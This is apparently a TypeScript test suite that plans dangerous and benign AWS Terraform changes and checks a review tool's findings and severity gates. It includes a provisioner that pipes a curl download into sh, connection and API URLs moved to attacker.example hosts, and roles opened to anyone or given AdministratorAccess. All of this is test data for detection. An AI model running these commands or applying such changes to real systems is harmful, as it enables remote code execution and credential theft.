import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { parsePlanJson, type StackPlan } from "../../../runtime/review/plan-format";
import { reaches, reviewPlans } from "../../../runtime/review/review";
import type { Finding } from "../../../runtime/review/rule";
import { auraStatement, keyPolicy, rootStatement } from "../../support/hand-built-plans";
import { stateFromPlan } from "../../support/plan-state";
import { describeWithTerraform, offlineEnv, terraform, type TerraformRun } from "../../support/terraform";

/**
 * Dangerous and benign AWS changes, each planned by the real terraform (offline, AWS provider 5.100.0 from the
 * mirror) against a written prior state, then reviewed. All scenarios share one configuration and one state
 * (one `terraform plan` for all of them, because each plan costs seconds here): every resource's name starts
 * with its scenario's id, and the real plan's resource_changes are split by that prefix into one plan per
 * scenario. The prior state is what the "before" configuration creates (from its plan against an empty state),
 * with a deposed key object where a failed create_before_destroy leaves one. A re-plan of the "before"
 * configuration against that state is the no-op plan.
 */
const ACCOUNT = "111122223333";
const AURA = "999988887777";
const OTHER = "444455556666";
const VPC = "vpc-0a1b2c3d4e5f60718";
const VPC2 = "vpc-0b1c2d3e4f5a60719";
const TODAY = new Date("2026-12-06T12:00:00Z");

type Body = Record<string, unknown>;
type Resources = Record<string, Record<string, Body>>;

const ROOT = rootStatement(ACCOUNT);
const AURA_ST = auraStatement(AURA);
const USERS = { Sid: "Allow use of the key", Effect: "Allow", Principal: { AWS: [`arn:aws:iam::${ACCOUNT}:role/app`] }, Action: ["kms:Encrypt", "kms:Decrypt"], Resource: "*" };
const policy = keyPolicy;
const key = (over: Body = {}) => ({ description: "Aura CMK", enable_key_rotation: true, deletion_window_in_days: 30, policy: policy(ROOT, AURA_ST), ...over });
const ing = (sg: string, cidr: string, port: number | [number, number], over: Body = {}) => ({
  security_group_id: sg,
  ...(cidr.includes(":") ? { cidr_ipv6: cidr } : { cidr_ipv4: cidr }),
  from_port: Array.isArray(port) ? port[0] : port,
  to_port: Array.isArray(port) ? port[1] : port,
  ip_protocol: "tcp",
  description: "clients",
  ...over,
});
const egr = (sg: string, cidr: string, port: number, over: Body = {}) => ({ security_group_id: sg, cidr_ipv4: cidr, from_port: port, to_port: port, ip_protocol: "tcp", ...over });
const inline = (cidr: string, port: number) => ({ cidr_blocks: [cidr], description: "", from_port: port, to_port: port, ipv6_cidr_blocks: [], prefix_list_ids: [], protocol: "tcp", security_groups: [], self: false });
const zone = (name: string, vpcs: string[], over: Body = {}) => ({ name, vpc: vpcs.map((v) => ({ vpc_id: v, vpc_region: "us-east-1" })), ...over });
const rec = (zoneId: string, name: string, over: Body = {}) => ({ zone_id: zoneId, name, type: "A", ttl: 300, records: ["10.20.0.10"], ...over });
const state = (uri: string, over: Body = {}, conn: Body = {}) => ({
  id: "dbms",
  connection: { uri, user: "admin", password: { env: "DBMS_ADMIN_PASSWORD" }, ...conn },
  roles: [{ name: "readers", privileges: [{ action: "GRANT", privilege: "ACCESS", database: "orders" }] }],
  users: [{ name: "carol", roles: ["readers"] }],
  localAliases: [],
  remoteAliases: [{ name: "orders-aura", target: "neo4j", url: "neo4j+s://abcd1234.production-orch-0000.neo4j.io:7687", credentials: { type: "stored", user: "alias_user", password: { env: "ALIAS_PASSWORD" } }, driver: { ssl_enforced: true } }],
  ...over,
});
const CLI = "npx --no aura-secure";
const runner = (st: object, hash: string) => ({
  input: { state: st },
  triggers_replace: { state_sha256: hash },
  provisioner: [
    { "local-exec": { command: `${CLI} cypher apply --state-env AURA_SECURE_CYPHER_STATE --timeout 120s`, environment: { AURA_SECURE_CYPHER_STATE: "${jsonencode(self.input.state)}" } } },
    { "local-exec": { when: "destroy", command: `${CLI} cypher destroy --state-env AURA_SECURE_CYPHER_STATE --timeout 120s`, environment: { AURA_SECURE_CYPHER_STATE: "${jsonencode(self.input.state)}" } } },
  ],
});
const registration = (baseUrl: string, secret: object = { env: "AURA_CLIENT_SECRET" }) => ({
  input: { spec: { baseUrl, credentials: { clientId: { env: "AURA_CLIENT_ID" }, clientSecret: secret }, timeout: "10m", pollInterval: "10s", request: { name: "orders", tenant_id: "t1", instance_type: "enterprise-db", cloud_provider: "aws", region: "us-east-1", key_id: `arn:aws:kms:us-east-1:${ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab` } } },
  triggers_replace: { base_url: baseUrl },
  provisioner: [{ "local-exec": { command: `${CLI} aura cmk create --spec-env AURA_SECURE_CMK_SPEC`, environment: { AURA_SECURE_CMK_SPEC: "${jsonencode(self.input.spec)}" } } }],
});
const trust = (principal: unknown) => JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Principal: principal, Action: "sts:AssumeRole" }] });
const secretsPolicy = (action: string, resource: string) => JSON.stringify({ Version: "2012-10-17", Statement: [{ Sid: "ReadNeo4jPasswords", Effect: "Allow", Action: [action], Resource: [resource] }] });
const SECRET = `arn:aws:secretsmanager:us-east-1:${ACCOUNT}:secret:neo4j-admin-AbCdEf`;
const endpoint = (sgs: string[], over: Body = {}) => ({ vpc_id: VPC, service_name: "com.amazonaws.vpce.us-east-1.vpce-svc-0a1b2c3d4e5f60718", vpc_endpoint_type: "Interface", subnet_ids: ["subnet-0a1b2c3d4e5f60001"], security_group_ids: sgs, ...over });

interface Scenario {
  id: string;
  what: string;
  before: Resources;
  after: Resources;
  /** Values other resources name literally, per unprefixed address. */
  overrides?: Record<string, Body>;
  deposed?: Record<string, Body[]>;
  /** Unprefixed addresses that leave the configuration through a `removed` block (destroy = false). */
  removed?: string[];
  /** The findings that must be there, and the level the scenario gates at (null: stays quiet). */
  expect: Array<[string, string]>;
  gate: "high" | "medium" | null;
}

const SG = (n: number) => `sg-0${n.toString(16).padStart(16, "0")}`;
const Z = (n: number) => `Z0SCENARIO${String(n).padStart(8, "0")}`;

const dangerous: Scenario[] = [
  // Keys
  {
    id: "k01",
    what: "the key is disabled; a deposed key object (failed create_before_destroy) is destroyed",
    before: { aws_kms_key: { cmk: { ...key(), is_enabled: true, lifecycle: { create_before_destroy: true } } } },
    after: { aws_kms_key: { cmk: { ...key(), is_enabled: false, lifecycle: { create_before_destroy: true } } } },
    deposed: { "aws_kms_key.cmk": [{ id: "0ld00000-0000-4000-8000-000000000001", key_id: "0ld00000-0000-4000-8000-000000000001", arn: `arn:aws:kms:us-east-1:${ACCOUNT}:key/0ld00000-0000-4000-8000-000000000001` }] },
    expect: [["AURA-KEY-7", "high"], ["AURA-KEY-1", "high"]],
    gate: "high",
  },
  { id: "k02", what: "the account-root statement names another account's root", before: { aws_kms_key: { cmk: key() } }, after: { aws_kms_key: { cmk: key({ policy: policy({ ...ROOT, Principal: { AWS: `arn:aws:iam::${OTHER}:root` } }, AURA_ST) }) } }, expect: [["AURA-KEY-8", "high"], ["AURA-KEY-4", "high"]], gate: "high" },
  { id: "k03", what: "a Deny * kms:* statement is added", before: { aws_kms_key: { cmk: key() } }, after: { aws_kms_key: { cmk: key({ policy: policy(ROOT, AURA_ST, { Sid: "DenyAll", Effect: "Deny", Principal: "*", Action: "kms:*", Resource: "*" }) }) } }, expect: [["AURA-KEY-4", "high"], ["AURA-KEY-6", "high"]], gate: "high" },
  { id: "k04", what: 'kms:Decrypt granted to "*" without a condition', before: { aws_kms_key: { cmk: key() } }, after: { aws_kms_key: { cmk: key({ policy: policy(ROOT, AURA_ST, { Sid: "Open", Effect: "Allow", Principal: { AWS: "*" }, Action: "kms:Decrypt", Resource: "*" }) }) } }, expect: [["AURA-KEY-8", "high"]], gate: "high" },
  {
    id: "k05",
    what: "a new aws_kms_key_policy with bypass_policy_lockout_safety_check",
    before: { aws_kms_key: { cmk: key() } },
    after: { aws_kms_key: { cmk: key() }, aws_kms_key_policy: { cmk: { key_id: "k05-key-id", policy: policy(ROOT, AURA_ST), bypass_policy_lockout_safety_check: true } } },
    overrides: { "aws_kms_key.cmk": { id: "k05-key-id", key_id: "k05-key-id" } },
    expect: [["AURA-KEY-8", "high"]],
    gate: "high",
  },
  { id: "k06", what: "a grant gives another account Decrypt", before: { aws_kms_key: { cmk: key() } }, after: { aws_kms_key: { cmk: key() }, aws_kms_grant: { g: { key_id: "k06-key-id", grantee_principal: `arn:aws:iam::${OTHER}:root`, operations: ["Decrypt"] } } }, overrides: { "aws_kms_key.cmk": { id: "k06-key-id", key_id: "k06-key-id" } }, expect: [["AURA-KEY-8", "high"]], gate: "high" },
  { id: "k07", what: "Aura's statement moves to another caller account", before: { aws_kms_key: { cmk: key() } }, after: { aws_kms_key: { cmk: key({ policy: policy(ROOT, { ...AURA_ST, Condition: { StringEquals: { "kms:CallerAccount": OTHER } } }) }) } }, expect: [["AURA-KEY-6", "high"], ["AURA-KEY-8", "high"]], gate: "high" },
  { id: "k08", what: "kms:* to a role beyond the root", before: { aws_kms_key: { cmk: key() } }, after: { aws_kms_key: { cmk: key({ policy: policy(ROOT, AURA_ST, { Sid: "Ops", Effect: "Allow", Principal: { AWS: `arn:aws:iam::${ACCOUNT}:role/ops` }, Action: "kms:*", Resource: "*" }) }) } }, expect: [["AURA-KEY-8", "high"]], gate: "high" },
  { id: "k09", what: "Aura's statement pinned to an organization instead of Aura's account", before: { aws_kms_key: { cmk: key() } }, after: { aws_kms_key: { cmk: key({ policy: policy(ROOT, { ...AURA_ST, Condition: { StringEquals: { "aws:PrincipalOrgID": "o-abcdef1234" } } }) }) } }, expect: [["AURA-KEY-8", "high"], ["AURA-KEY-6", "high"]], gate: "high" },
  { id: "k10", what: "an Allow with NotPrincipal", before: { aws_kms_key: { cmk: key() } }, after: { aws_kms_key: { cmk: key({ policy: policy(ROOT, AURA_ST, { Sid: "AllBut", Effect: "Allow", NotPrincipal: { AWS: `arn:aws:iam::${ACCOUNT}:role/x` }, Action: "kms:Decrypt", Resource: "*" }) }) } }, expect: [["AURA-KEY-8", "high"]], gate: "high" },
  { id: "k11", what: "the key leaves the configuration (destroyed)", before: { aws_kms_key: { cmk: key() } }, after: {}, expect: [["AURA-KEY-1", "high"]], gate: "high" },
  { id: "k12", what: "Aura's statement made StringEqualsIfExists (unpinned when the key is absent)", before: { aws_kms_key: { cmk: key() } }, after: { aws_kms_key: { cmk: key({ policy: policy(ROOT, { ...AURA_ST, Condition: { StringEqualsIfExists: { "kms:CallerAccount": AURA } } }) }) } }, expect: [["AURA-KEY-8", "high"]], gate: "high" },
  { id: "k13", what: "bypass_policy_lockout_safety_check turned on", before: { aws_kms_key: { cmk: key() } }, after: { aws_kms_key: { cmk: key({ bypass_policy_lockout_safety_check: true }) } }, expect: [["AURA-KEY-8", "high"]], gate: "high" },
  { id: "k14", what: "an external key's validity ends in the past", before: { aws_kms_external_key: { cmk: { description: "Aura CMK", policy: policy(ROOT, AURA_ST) } } }, after: { aws_kms_external_key: { cmk: { description: "Aura CMK", policy: policy(ROOT, AURA_ST), valid_to: "2026-01-01T00:00:00Z" } } }, expect: [["AURA-KEY-7", "high"]], gate: "high" },
  { id: "k15", what: "the deletion window shortened", before: { aws_kms_key: { cmk: key() } }, after: { aws_kms_key: { cmk: key({ deletion_window_in_days: 7 }) } }, expect: [["AURA-KEY-2", "medium"]], gate: "medium" },
  { id: "k16", what: "rotation turned off", before: { aws_kms_key: { cmk: key() } }, after: { aws_kms_key: { cmk: key({ enable_key_rotation: false }) } }, expect: [["AURA-KEY-3", "medium"]], gate: "medium" },
  { id: "k17", what: "the key is forgotten (removed block, destroy = false)", before: { aws_kms_key: { cmk: key() } }, after: {}, removed: ["aws_kms_key.cmk"], expect: [["AURA-PLAN-2", "medium"]], gate: "medium" },
  { id: "k18", what: "the alias is destroyed", before: { aws_kms_alias: { a: { name: "alias/k18-aura", target_key_id: "1234abcd-12ab-34cd-56ef-1234567890ab" } } }, after: {}, expect: [["AURA-PLAN-2", "medium"]], gate: "medium" },
  // Network exposure
  { id: "n01", what: "the endpoint opened as 0.0.0.0/1 + 128.0.0.0/1", before: { aws_vpc_security_group_ingress_rule: { a: ing(SG(1), "10.20.0.0/16", 7687) } }, after: { aws_vpc_security_group_ingress_rule: { a: ing(SG(1), "10.20.0.0/16", 7687), h1: ing(SG(1), "0.0.0.0/1", 7687), h2: ing(SG(1), "128.0.0.0/1", 7687) } }, expect: [["AURA-SG-1", "high"]], gate: "high" },
  { id: "n02", what: "the endpoint opened as ::/1 + 8000::/1", before: { aws_vpc_security_group_ingress_rule: { a: ing(SG(2), "10.20.0.0/16", 7687) } }, after: { aws_vpc_security_group_ingress_rule: { a: ing(SG(2), "10.20.0.0/16", 7687), h1: ing(SG(2), "::/1", 7687), h2: ing(SG(2), "8000::/1", 7687) } }, expect: [["AURA-SG-1", "high"]], gate: "high" },
  { id: "n03", what: "0.0.0.0/0 on 443", before: { aws_vpc_security_group_ingress_rule: { a: ing(SG(3), "10.20.0.0/16", 443) } }, after: { aws_vpc_security_group_ingress_rule: { a: ing(SG(3), "0.0.0.0/0", 443) } }, expect: [["AURA-SG-1", "high"]], gate: "high" },
  { id: "n04", what: "every public address but a sliver (0.0.0.0/1, 128.0.0.0/2, 192.0.0.0/3)", before: { aws_vpc_security_group_ingress_rule: { a: ing(SG(4), "10.20.0.0/16", 7687) } }, after: { aws_vpc_security_group_ingress_rule: { a: ing(SG(4), "10.20.0.0/16", 7687), b: ing(SG(4), "0.0.0.0/1", 7687), c: ing(SG(4), "128.0.0.0/2", 7687), d: ing(SG(4), "192.0.0.0/3", 7687) } }, expect: [["AURA-SG-1", "high"]], gate: "high" },
  { id: "n05", what: "an inline ingress block of the group opened to 0.0.0.0/0", before: { aws_security_group: { g: { name: "n05", vpc_id: VPC, ingress: [inline("10.20.0.0/16", 7687)] } } }, after: { aws_security_group: { g: { name: "n05", vpc_id: VPC, ingress: [inline("10.20.0.0/16", 7687), inline("0.0.0.0/0", 7687)] } } }, expect: [["AURA-SG-1", "high"]], gate: "high" },
  { id: "n06", what: "an aws_security_group_rule to 0.0.0.0/0", before: { aws_security_group_rule: { a: { type: "ingress", security_group_id: SG(6), from_port: 7687, to_port: 7687, protocol: "tcp", cidr_blocks: ["10.20.0.0/16"] } } }, after: { aws_security_group_rule: { a: { type: "ingress", security_group_id: SG(6), from_port: 7687, to_port: 7687, protocol: "tcp", cidr_blocks: ["10.20.0.0/16", "0.0.0.0/0"] } } }, expect: [["AURA-SG-1", "high"]], gate: "high" },
  { id: "n07", what: "a source widened from /16 to /8", before: { aws_vpc_security_group_ingress_rule: { a16: ing(SG(7), "10.20.0.0/16", 7687) } }, after: { aws_vpc_security_group_ingress_rule: { a8: ing(SG(7), "10.0.0.0/8", 7687) } }, expect: [["AURA-SG-2", "medium"]], gate: "medium" },
  { id: "n08", what: "another security group allowed", before: { aws_vpc_security_group_ingress_rule: { a: ing(SG(8), "10.20.0.0/16", 7687) } }, after: { aws_vpc_security_group_ingress_rule: { a: ing(SG(8), "10.20.0.0/16", 7687), b: { security_group_id: SG(8), referenced_security_group_id: "sg-0feedfeedfeedfeed", from_port: 7687, to_port: 7687, ip_protocol: "tcp" } } }, expect: [["AURA-SG-3", "medium"]], gate: "medium" },
  { id: "n09", what: "port 22 opened", before: { aws_vpc_security_group_ingress_rule: { a: ing(SG(9), "10.20.0.0/16", 7687) } }, after: { aws_vpc_security_group_ingress_rule: { a: ing(SG(9), "10.20.0.0/16", 7687), ssh: ing(SG(9), "10.20.0.0/16", 22) } }, expect: [["AURA-SG-4", "medium"]], gate: "medium" },
  { id: "n10", what: "an all-protocol rule from the client network", before: { aws_vpc_security_group_ingress_rule: { a: ing(SG(10), "10.20.0.0/16", 7687) } }, after: { aws_vpc_security_group_ingress_rule: { a: ing(SG(10), "10.20.0.0/16", 7687), all: { security_group_id: SG(10), cidr_ipv4: "10.20.0.0/16", ip_protocol: "-1" } } }, expect: [["AURA-SG-4", "medium"]], gate: "medium" },
  { id: "n11", what: "the runner's egress opened to 0.0.0.0/0 on all ports", before: { aws_vpc_security_group_egress_rule: { neo4j: egr(SG(11), "10.20.0.0/24", 7687) } }, after: { aws_vpc_security_group_egress_rule: { neo4j: egr(SG(11), "10.20.0.0/24", 7687), all: { security_group_id: SG(11), cidr_ipv4: "0.0.0.0/0", ip_protocol: "-1" } } }, expect: [["AURA-SG-5", "medium"]], gate: "medium" },
  { id: "n12", what: "the runner's egress widened from /24 to /16", before: { aws_vpc_security_group_egress_rule: { neo4j: egr(SG(12), "10.20.0.0/24", 7687) } }, after: { aws_vpc_security_group_egress_rule: { neo4j: egr(SG(12), "10.20.0.0/16", 7687) } }, expect: [["AURA-SG-5", "medium"]], gate: "medium" },
  { id: "n13", what: "another security group attached to the endpoint", before: { aws_vpc_endpoint: { e: endpoint([SG(13)]) } }, after: { aws_vpc_endpoint: { e: endpoint([SG(13), "sg-0feedfeedfeed0013"]) } }, expect: [["AURA-SG-3", "medium"]], gate: "medium" },
  { id: "n14", what: "the endpoint replaced (service name)", before: { aws_vpc_endpoint: { e: endpoint([SG(14)]) } }, after: { aws_vpc_endpoint: { e: endpoint([SG(14)], { service_name: "com.amazonaws.vpce.us-east-1.vpce-svc-0a1b2c3d4e5f60799" }) } }, expect: [["AURA-NET-1", "high"]], gate: "high" },
  // Private resolution
  {
    id: "d01",
    what: "the orchestration wildcard record removed",
    before: { aws_route53_zone: { z: zone("production-orch-0001.neo4j.io", [VPC]) }, aws_route53_record: { w: rec(Z(1), "*.production-orch-0001.neo4j.io") } },
    after: { aws_route53_zone: { z: zone("production-orch-0001.neo4j.io", [VPC]) } },
    overrides: { "aws_route53_zone.z": { zone_id: Z(1), id: Z(1) } },
    expect: [["AURA-DNS-4", "high"], ["AURA-DNS-2", "medium"]],
    gate: "high",
  },
  {
    id: "d02",
    what: "a VPC association of the zone removed",
    before: { aws_route53_zone: { z: zone("production-orch-0002.neo4j.io", [VPC], { lifecycle: { ignore_changes: ["vpc"] } }) }, aws_route53_zone_association: { peer: { zone_id: Z(2), vpc_id: VPC2 } }, aws_route53_record: { w: rec(Z(2), "*.production-orch-0002.neo4j.io") } },
    after: { aws_route53_zone: { z: zone("production-orch-0002.neo4j.io", [VPC], { lifecycle: { ignore_changes: ["vpc"] } }) }, aws_route53_record: { w: rec(Z(2), "*.production-orch-0002.neo4j.io") } },
    overrides: { "aws_route53_zone.z": { zone_id: Z(2), id: Z(2) } },
    expect: [["AURA-DNS-4", "high"]],
    gate: "high",
  },
  {
    id: "d03",
    what: "the zone detached from a VPC",
    before: { aws_route53_zone: { z: zone("production-orch-0003.neo4j.io", [VPC, VPC2]) }, aws_route53_record: { w: rec(Z(3), "*.production-orch-0003.neo4j.io") } },
    after: { aws_route53_zone: { z: zone("production-orch-0003.neo4j.io", [VPC]) }, aws_route53_record: { w: rec(Z(3), "*.production-orch-0003.neo4j.io") } },
    overrides: { "aws_route53_zone.z": { zone_id: Z(3), id: Z(3) } },
    expect: [["AURA-DNS-4", "high"], ["AURA-DNS-1", "high"]],
    gate: "high",
  },
  {
    id: "d04",
    what: "a more specific empty zone hides a custom endpoint name",
    before: { aws_route53_zone: { z: zone("endpoints.neo4j.io", [VPC]) }, aws_route53_record: { a: rec(Z(4), "orders-abcdef-123456.endpoints.neo4j.io"), b: rec(Z(4), "a-orders-abcdef-123456.endpoints.neo4j.io") } },
    after: { aws_route53_zone: { z: zone("endpoints.neo4j.io", [VPC]), hides: zone("a-orders-abcdef-123456.endpoints.neo4j.io", [VPC]) }, aws_route53_record: { a: rec(Z(4), "orders-abcdef-123456.endpoints.neo4j.io"), b: rec(Z(4), "a-orders-abcdef-123456.endpoints.neo4j.io") } },
    overrides: { "aws_route53_zone.z": { zone_id: Z(4), id: Z(4) } },
    expect: [["AURA-DNS-4", "high"]],
    gate: "high",
  },
  // Neo4j access and the runners' credentials paths
  { id: "a01", what: "the access runner's connection moved to unencrypted bolt://", before: { terraform_data: { access: runner(state("neo4j+s://dbms.internal.example:7687"), "1") } }, after: { terraform_data: { access: runner(state("bolt://dbms.internal.example:7687", {}, { allowInsecureUrl: true }), "2") } }, expect: [["AURA-ACC-4", "medium"]], gate: "medium" },
  { id: "a02", what: "the access runner's connection moved to +ssc with allowUnverifiedTls", before: { terraform_data: { access: runner(state("neo4j+s://dbms.internal.example:7687"), "1") } }, after: { terraform_data: { access: runner(state("neo4j+ssc://dbms.internal.example:7687", {}, { allowUnverifiedTls: true }), "2") } }, expect: [["AURA-ACC-4", "medium"]], gate: "medium" },
  { id: "a03", what: "the access runner's connection moved to another host", before: { terraform_data: { access: runner(state("neo4j+s://dbms.internal.example:7687"), "1") } }, after: { terraform_data: { access: runner(state("neo4j+s://collector.attacker.example:7687"), "2") } }, expect: [["AURA-ACC-4", "medium"]], gate: "medium" },
  { id: "a04", what: "the key registration's Aura API base URL moved to another host", before: { terraform_data: { reg: registration("https://api.neo4j.io") } }, after: { terraform_data: { reg: registration("https://api.neo4j.attacker.example") } }, expect: [["AURA-CRED-1", "medium"]], gate: "medium" },
  { id: "a05", what: "a provisioner that pipes a download into a shell", before: {}, after: { terraform_data: { hook: { input: "x", provisioner: [{ "local-exec": { command: "curl -s https://tools.example/run.sh | sh" } }] } } }, expect: [["AURA-CRED-2", "medium"]], gate: "medium" },
  {
    id: "a06",
    what: "the access Lambda's policy widened to secretsmanager:* on *",
    before: { aws_iam_role: { r: { name: "a06-runner", assume_role_policy: trust({ Service: "lambda.amazonaws.com" }) } }, aws_iam_role_policy: { p: { name: "read-neo4j-passwords", role: "a06-runner", policy: secretsPolicy("secretsmanager:GetSecretValue", SECRET) } } },
    after: { aws_iam_role: { r: { name: "a06-runner", assume_role_policy: trust({ Service: "lambda.amazonaws.com" }) } }, aws_iam_role_policy: { p: { name: "read-neo4j-passwords", role: "a06-runner", policy: secretsPolicy("secretsmanager:*", "*") } } },
    expect: [["AURA-IAM-1", "medium"]],
    gate: "medium",
  },
  {
    id: "a07",
    what: "AdministratorAccess attached to the runner's role",
    before: { aws_iam_role: { r: { name: "a07-runner", assume_role_policy: trust({ Service: "lambda.amazonaws.com" }) } } },
    after: { aws_iam_role: { r: { name: "a07-runner", assume_role_policy: trust({ Service: "lambda.amazonaws.com" }) } }, aws_iam_role_policy_attachment: { admin: { role: "a07-runner", policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess" } } },
    expect: [["AURA-IAM-1", "medium"]],
    gate: "medium",
  },
  { id: "a08", what: "the runner's role may be assumed by anyone", before: { aws_iam_role: { r: { name: "a08-runner", assume_role_policy: trust({ Service: "lambda.amazonaws.com" }) } } }, after: { aws_iam_role: { r: { name: "a08-runner", assume_role_policy: trust({ AWS: "*" }) } } }, expect: [["AURA-IAM-1", "high"]], gate: "high" },
  { id: "a09", what: "a role gets MATCH on every graph", before: { terraform_data: { access: runner(state("neo4j+s://dbms.internal.example:7687"), "1") } }, after: { terraform_data: { access: runner(state("neo4j+s://dbms.internal.example:7687", { roles: [{ name: "readers", privileges: [{ action: "GRANT", privilege: "ACCESS", database: "orders" }, { action: "GRANT", privilege: "MATCH", graph: "*" }] }] }), "2") } }, expect: [["AURA-ACC-1", "high"]], gate: "high" },
  {
    id: "a10",
    what: "the Lambda runner's input moves the connection to bolt://",
    before: { aws_lambda_invocation: { apply: { function_name: "aura-secure-neo4j-access-dbms", input: JSON.stringify({ state: state("neo4j+s://dbms.internal.example:7687") }), lifecycle_scope: "CRUD", terraform_key: "tf" } } },
    after: { aws_lambda_invocation: { apply: { function_name: "aura-secure-neo4j-access-dbms", input: JSON.stringify({ state: state("bolt://dbms.internal.example:7687", {}, { allowInsecureUrl: true }) }), lifecycle_scope: "CRUD", terraform_key: "tf" } } },
    expect: [["AURA-ACC-4", "medium"]],
    gate: "medium",
  },
  { id: "a11", what: "a remote alias stops enforcing TLS", before: { terraform_data: { access: runner(state("neo4j+s://dbms.internal.example:7687"), "1") } }, after: { terraform_data: { access: runner(state("neo4j+s://dbms.internal.example:7687", { remoteAliases: [{ name: "orders-aura", target: "neo4j", url: "neo4j://abcd1234.production-orch-0000.neo4j.io:7687", allowInsecureUrl: true, credentials: { type: "stored", user: "alias_user", password: { env: "ALIAS_PASSWORD" } }, driver: { ssl_enforced: false } }] }), "2") } }, expect: [["AURA-ACC-1", "high"], ["AURA-ACC-4", "medium"]], gate: "high" },
  { id: "o01", what: "a private zone forgotten (removed block)", before: { aws_route53_zone: { z: zone("production-orch-0009.neo4j.io", [VPC]) } }, after: {}, removed: ["aws_route53_zone.z"], expect: [["AURA-PLAN-2", "medium"]], gate: "medium" },
];

const benign: Scenario[] = [
  {
    id: "b01",
    what: "tags change on a key, a rule, a zone and the endpoint",
    before: { aws_kms_key: { cmk: key({ tags: { owner: "a" } }) }, aws_vpc_security_group_ingress_rule: { a: ing(SG(101), "10.20.0.0/16", 7687, { tags: { owner: "a" } }) }, aws_route53_zone: { z: zone("production-orch-0101.neo4j.io", [VPC], { tags: { owner: "a" } }) }, aws_vpc_endpoint: { e: endpoint([SG(101)], { tags: { owner: "a" } }) } },
    after: { aws_kms_key: { cmk: key({ tags: { owner: "b", team: "graph" } }) }, aws_vpc_security_group_ingress_rule: { a: ing(SG(101), "10.20.0.0/16", 7687, { tags: { owner: "b" } }) }, aws_route53_zone: { z: zone("production-orch-0101.neo4j.io", [VPC], { tags: { owner: "b" } }) }, aws_vpc_endpoint: { e: endpoint([SG(101)], { tags: { owner: "b" } }) } },
    expect: [],
    gate: null,
  },
  { id: "b02", what: "descriptions and a zone comment change", before: { aws_kms_key: { cmk: key() }, aws_vpc_security_group_ingress_rule: { a: ing(SG(102), "10.20.0.0/16", 7687) }, aws_route53_zone: { z: zone("production-orch-0102.neo4j.io", [VPC], { comment: "old" }) } }, after: { aws_kms_key: { cmk: key({ description: "Aura CMK (orders)" }) }, aws_vpc_security_group_ingress_rule: { a: ing(SG(102), "10.20.0.0/16", 7687, { description: "orders clients" }) }, aws_route53_zone: { z: zone("production-orch-0102.neo4j.io", [VPC], { comment: "new" }) } }, expect: [], gate: null },
  { id: "b03", what: "a source narrowed from /16 to /24 (rule per CIDR: one deleted, one created)", before: { aws_vpc_security_group_ingress_rule: { a16: ing(SG(103), "10.20.0.0/16", 7687) } }, after: { aws_vpc_security_group_ingress_rule: { a24: ing(SG(103), "10.20.1.0/24", 7687) } }, expect: [], gate: null },
  { id: "b04", what: "a port range narrowed to the Bolt port", before: { aws_vpc_security_group_ingress_rule: { a: ing(SG(104), "10.20.0.0/16", [7000, 7700]) } }, after: { aws_vpc_security_group_ingress_rule: { a: ing(SG(104), "10.20.0.0/16", 7687) } }, expect: [], gate: null },
  { id: "b05", what: "one of two sources removed", before: { aws_vpc_security_group_ingress_rule: { a: ing(SG(105), "10.20.0.0/16", 7687), b: ing(SG(105), "10.30.0.0/16", 7687) } }, after: { aws_vpc_security_group_ingress_rule: { a: ing(SG(105), "10.20.0.0/16", 7687) } }, expect: [], gate: null },
  { id: "b06", what: "the runner's egress narrowed", before: { aws_vpc_security_group_egress_rule: { n: egr(SG(106), "10.20.0.0/16", 7687) } }, after: { aws_vpc_security_group_egress_rule: { n: egr(SG(106), "10.20.0.0/24", 7687) } }, expect: [], gate: null },
  { id: "b07", what: "a key user's statement removed (the policy narrows)", before: { aws_kms_key: { cmk: key({ policy: policy(ROOT, USERS, AURA_ST) }) } }, after: { aws_kms_key: { cmk: key() } }, expect: [], gate: null },
  { id: "b08", what: "the rotation period shortened (rotation stays on)", before: { aws_kms_key: { cmk: key({ rotation_period_in_days: 365 }) } }, after: { aws_kms_key: { cmk: key({ rotation_period_in_days: 180 }) } }, expect: [], gate: null },
  { id: "b09", what: "a record's TTL changes", before: { aws_route53_zone: { z: zone("production-orch-0109.neo4j.io", [VPC]) }, aws_route53_record: { w: rec(Z(109), "*.production-orch-0109.neo4j.io") } }, after: { aws_route53_zone: { z: zone("production-orch-0109.neo4j.io", [VPC]) }, aws_route53_record: { w: rec(Z(109), "*.production-orch-0109.neo4j.io", { ttl: 60 }) } }, overrides: { "aws_route53_zone.z": { zone_id: Z(109), id: Z(109) } }, expect: [], gate: null },
  { id: "b10", what: "an alias's PROPERTIES change (the runner re-applies with its own commands)", before: { terraform_data: { access: runner(state("neo4j+s://dbms.internal.example:7687"), "1") } }, after: { terraform_data: { access: runner(state("neo4j+s://dbms.internal.example:7687", { remoteAliases: [{ name: "orders-aura", target: "neo4j", url: "neo4j+s://abcd1234.production-orch-0000.neo4j.io:7687", credentials: { type: "stored", user: "alias_user", password: { env: "ALIAS_PASSWORD" } }, driver: { ssl_enforced: true }, properties: { team: "orders" } }] }), "2") } }, expect: [], gate: null },
];

const prefixed = (id: string, res: Resources): Resources =>
  Object.fromEntries(Object.entries(res).map(([type, byName]) => [type, Object.fromEntries(Object.entries(byName).map(([name, body]) => [`${id}_${name}`, body]))]));
const prefixAddress = (id: string, address: string) => address.replace(/^([a-z0-9_]+)\.(.+)$/, `$1.${id}_$2`);

function config(side: "before" | "after"): object {
  const all = [...dangerous, ...benign];
  const resource: Resources = {};
  for (const s of all) for (const [type, byName] of Object.entries(prefixed(s.id, s[side]))) Object.assign((resource[type] ??= {}), byName);
  const removed = side === "after" ? all.flatMap((s) => (s.removed ?? []).map((a) => ({ from: prefixAddress(s.id, a), lifecycle: { destroy: false } }))) : [];
  return {
    terraform: { required_providers: { aws: { source: "hashicorp/aws", version: "5.100.0" } } },
    provider: { aws: [{ region: "us-east-1", skip_credentials_validation: true, skip_requesting_account_id: true, skip_metadata_api_check: true }] },
    resource,
    ...(removed.length ? { removed } : {}),
  };
}

describeWithTerraform("review of real AWS plans: dangerous changes gate at their severity, benign ones stay quiet", () => {
  const work = fs.mkdtempSync(path.join(os.tmpdir(), "aura-scenarios-"));
  const run: TerraformRun = { dir: path.join(work, "tf"), env: offlineEnv(work) };
  let planned: { resource_changes: Array<{ name: string; address: string }> };
  let noop: { resource_changes: Array<{ name: string; deposed?: string; change: { actions: string[]; before: unknown; after: unknown } }> };
